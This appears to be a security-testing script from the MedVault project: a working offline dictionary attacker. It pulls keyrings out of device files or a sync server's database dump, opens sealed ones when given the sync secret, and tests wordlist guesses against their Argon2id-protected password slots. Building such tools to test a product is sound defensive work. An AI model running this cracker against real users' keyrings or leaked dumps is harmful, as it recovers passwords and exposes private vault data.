#!/usr/bin/env python3
"""An offline password-guessing attacker against MedVault keyrings, written from
docs/keyring-format.md alone with argon2-cffi and the `cryptography` package.

It looks for keyrings in whatever it is given and tries every word of a list
against their password slot:

  keyring_guess.py --words LIST --dump FILE            # e.g. the sync server's pg_dump
  keyring_guess.py --words LIST --dump FILE --secret S # ... knowing the vault's sync secret
  keyring_guess.py --words LIST --keyring FILE         # a device's own keyring file

In a dump it decodes every bytea value (`\\x…` hex) and also scans the raw bytes. A
keyring in the clear (magic MVKEYRNG) is attacked directly; a sealed keyring (magic
MVSEALKR) only when the sync secret (its Crockford base32 text form) is given.

Prints one JSON object: {"keyrings": n, "sealed": n, "sealedOpened": n, "guesses": n,
"found": "the word" or null}.
"""
import argparse
import hashlib
import hmac
import json
import re
import struct
import sys
import unicodedata

from argon2.low_level import Type, hash_secret_raw
from cryptography.exceptions import InvalidTag
from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305

KEYRING_MAGIC = b"MVKEYRNG"
SEALED_MAGIC = b"MVSEALKR"
CROCKFORD = "0123456789ABCDEFGHJKMNPQRSTVWXYZ"


class Reader:
    def __init__(self, data, offset=0):
        self.data, self.offset = data, offset

    def take(self, n):
        if self.offset + n > len(self.data):
            raise ValueError("truncated")
        chunk = self.data[self.offset:self.offset + n]
        self.offset += n
        return chunk

    def u8(self):
        return self.take(1)[0]

    def u16(self):
        return struct.unpack(">H", self.take(2))[0]

    def u32(self):
        return struct.unpack(">I", self.take(4))[0]

    def u64(self):
        return struct.unpack(">Q", self.take(8))[0]

    def short(self):
        return self.take(self.u8())


def parse_keyring(data, offset=0):
    """The password slots of the keyring at `offset`: (AD, m, t, p, salt, wrapped)."""
    r = Reader(data, offset)
    if r.take(8) != KEYRING_MAGIC:
        raise ValueError("magic")
    version = r.u16()
    if version not in (1, 2):
        raise ValueError("version")
    r.u16()  # flags
    vault_id = r.take(16)
    r.short(); r.u32(); r.u8(); r.short(); r.short(); r.u32(); r.u32(); r.u8()  # cipher settings
    r.u64()  # generation
    r.take(60)  # current database key
    if r.u8() == 1:
        r.take(60)
    slots = []
    for _ in range(r.u8()):
        length = r.u16()
        start = r.offset
        body = r.take(length)
        header, wrapped = body[:-60], body[-60:]
        if header[0] != 1:  # not a password slot
            continue
        s = Reader(header, 1 + 16 + 1)
        m, t, p, out_len = s.u32(), s.u32(), s.u32(), s.u8()
        salt = s.short()
        # The sealing version is 1 in keyring format versions 1 and 2 (version 2 adds an
        # audit record after the header MAC, which this reader never reaches).
        ad = b"MedVault slot v1" + struct.pack(">H", 1) + vault_id + header
        slots.append((ad, m, t, p, salt, wrapped))
        assert r.offset == start + length
    return slots


def hkdf_sha256(ikm, salt, info):
    prk = hmac.new(salt, ikm, hashlib.sha256).digest()
    return hmac.new(prk, info + b"\x01", hashlib.sha256).digest()


def parse_secret(text):
    symbols = [c for c in text.upper() if c not in " -\t\r\n"]
    symbols = ["1" if c in "IL" else "0" if c == "O" else c for c in symbols]
    bits = "".join(format(CROCKFORD.index(c), "05b") for c in symbols)
    raw = int(bits, 2).to_bytes(len(bits) // 8, "big")
    secret, checksum = raw[:16], raw[16:]
    if hashlib.sha256(b"MedVault sync secret checksum v1" + secret).digest()[:4] != checksum:
        raise SystemExit("sync secret checksum mismatch")
    return secret


def open_sealed(data, offset, secret):
    """The keyring bytes inside the sealed keyring at `offset` (its length runs to the end of `data`)."""
    header = data[offset:offset + 34]
    vault_id = header[10:26]
    nonce = data[offset + 34:offset + 46]
    key = hkdf_sha256(secret, vault_id, b"MedVault sealed keyring v1")
    return ChaCha20Poly1305(key).decrypt(nonce, data[offset + 46:], header)


def blobs_of(dump):
    """Every bytea value of a plain pg_dump, then the dump itself."""
    for match in re.finditer(rb"\\\\x([0-9a-f]+)", dump):
        yield bytes.fromhex(match.group(1).decode())
    yield dump


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--words", required=True)
    parser.add_argument("--dump")
    parser.add_argument("--keyring")
    parser.add_argument("--secret")
    args = parser.parse_args()
    words = [w for w in open(args.words, encoding="utf-8").read().split("\n") if w]
    secret = parse_secret(args.secret) if args.secret else None

    slots, sealed, opened = [], 0, 0
    sources = [open(args.keyring, "rb").read()] if args.keyring else list(blobs_of(open(args.dump, "rb").read()))
    for blob in sources:
        for match in re.finditer(re.escape(KEYRING_MAGIC), blob):
            try:
                slots += parse_keyring(blob, match.start())
            except (ValueError, IndexError, AssertionError):
                pass
        if blob.startswith(SEALED_MAGIC):
            sealed += 1
            if secret is not None:
                try:
                    slots += parse_keyring(open_sealed(blob, 0, secret))
                    opened += 1
                except InvalidTag:
                    pass
    # One slot per distinct salt: a dump may hold the same keyring twice.
    unique = {slot[4]: slot for slot in slots}.values()
    guesses, found = 0, None
    for ad, m, t, p, salt, wrapped in unique:
        for word in words:
            guesses += 1
            kek = hash_secret_raw(unicodedata.normalize("NFC", word).encode(), salt, time_cost=t,
                                  memory_cost=m, parallelism=p, hash_len=32, type=Type.ID, version=0x13)
            try:
                ChaCha20Poly1305(kek).decrypt(wrapped[:12], wrapped[12:], ad)
                found = word
                break
            except InvalidTag:
                continue
        if found:
            break
    print(json.dumps({"keyrings": len(list(unique)), "sealed": sealed, "sealedOpened": opened,
                      "guesses": guesses, "found": found}))


if __name__ == "__main__":
    sys.exit(main())
